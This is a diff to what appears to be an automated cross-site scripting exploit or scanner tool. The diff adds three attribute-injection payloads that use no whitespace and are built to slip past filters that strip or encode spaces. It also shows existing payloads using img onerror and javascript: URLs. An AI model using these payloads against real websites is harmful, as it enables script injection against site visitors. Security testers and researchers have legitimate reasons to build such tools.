@@ -155,7 +155,12 @@ STEPS: dict[str, Callable[[], None]] = {
                                       *multiline(f"<img src=x onerror={m}()>")]),
     "attribute": xss_exploit(lambda m: [(f'x" onmouseover="{m}()" autofocus onfocus="{m}()', "none"),
                                         (f"x' onmouseover='{m}()' autofocus onfocus='{m}()", "none"),
-                                        (f"x onmouseover={m}() autofocus onfocus={m}()", "none")]),
+                                        (f"x onmouseover={m}() autofocus onfocus={m}()", "none"),
+                                        # no white space at all (a quote then the handler, or '/' between
+                                        # attributes): past code that turns spaces into '+' or refuses them
+                                        (f'x"onmouseover="{m}()"onfocus="{m}()"autofocus="', "none"),
+                                        (f"x'onmouseover='{m}()'onfocus='{m}()'autofocus='", "none"),
+                                        (f'x"/onfocus="{m}()"/autofocus/onmouseover="{m}()', "none")]),
     "jsurl": xss_exploit(lambda m: [(f'"><a href="javascript:{m}()">go</a>', "none"),
                                     (f"'><a href=javascript:{m}()>go</a>", "none"),
                                     (f"<a href=javascript:{m}()>go</a>", ""),
